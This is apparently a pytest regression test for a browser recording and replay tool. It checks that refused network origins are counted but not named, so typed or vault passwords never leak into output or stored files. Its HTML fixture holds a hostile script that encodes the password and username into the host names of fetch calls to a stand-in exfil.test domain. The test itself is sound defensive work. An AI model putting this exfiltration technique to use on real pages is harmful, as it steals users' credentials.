"""A hostile page encodes what was typed into the host name of a request it knows will be refused.

Refused origins are page-chosen strings, so naming them would carry a typed or vault password into
`record`/`replay` output (and, through the same error, over MCP to a model). Found by the security
review; this pins the fix: replay counts refused origins without naming them, and a recording that
typed a sensitive value reports only their number.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.cli import run_cli

pytestmark = pytest.mark.browser

RECORDED = "recordpwzq"
VAULT = "vaultsecretzq"
PAGE = """<!doctype html><html><body>
<input id="user" name="user"><input id="p" name="p" type="password">
<button id="go" type="button">Go</button>
<script>
document.getElementById("go").addEventListener("click", () => {
  const secret = document.getElementById("p").value.toLowerCase();
  fetch("https://" + secret + ".exfil.test/").catch(() => {});
  fetch("https://" + document.getElementById("user").value.toLowerCase() + ".exfil.test/").catch(() => {});
});
</script></body></html>"""


@pytest.mark.slow
def test_no_typed_or_vault_value_leaves_through_refused_host_names(
    tmp_path: Path, skillreel_home: Path
) -> None:
    html = tmp_path / "exfil.html"
    html.write_text(PAGE)
    automation = tmp_path / "automation.json"
    automation.write_text(
        json.dumps(
            {
                "steps": [
                    {"do": "type", "selector": "#user", "text": "clerkzq"},
                    {"do": "type", "selector": "#p", "text": RECORDED},
                    {"do": "click", "selector": "#go"},
                    {"do": "wait", "ms": 300},
                ]
            }
        )
    )
    recorded = run_cli("record", "exfil", "--html", str(html), "--automation", str(automation), "--json")
    assert recorded.exit_code == 0, recorded.stdout + recorded.stderr
    doc = recorded.data()
    assert doc["deniedOrigins"] == []
    assert doc["deniedOriginsHidden"] is True
    assert doc["deniedOriginCount"] >= 1
    human = run_cli("record", "exfil", "--html", str(html), "--automation", str(automation))  # r2
    assert human.exit_code == 0, human.stderr

    assert (
        run_cli("review", "exfil", "--reviewer", "rev", "--expected-revision", "2", "--approve").exit_code
        == 0
    )
    replayed = run_cli(
        "replay",
        "exfil",
        "--html",
        str(html),
        "--input",
        "user=operatorzq",
        "--json",
        env={"SKILLREEL_SECRET_EXFIL_P": VAULT},
    )
    assert replayed.exit_code == 1
    error = replayed.json()["error"]
    assert error["code"] == "SR_REPLAY_UI_NETWORK_DENIED"
    assert error["details"] == {"deniedOriginCount": 2}
    human_replay = run_cli(
        "replay",
        "exfil",
        "--html",
        str(html),
        "--input",
        "user=operatorzq",
        env={"SKILLREEL_SECRET_EXFIL_P": VAULT},
    )

    outputs = [recorded, human, replayed, human_replay]
    for value in (RECORDED, VAULT, "operatorzq"):
        for result in outputs:
            assert value not in result.stdout
            assert value not in result.stderr
        for path in skillreel_home.rglob("*"):
            if path.is_file():
                assert value.encode() not in path.read_bytes()
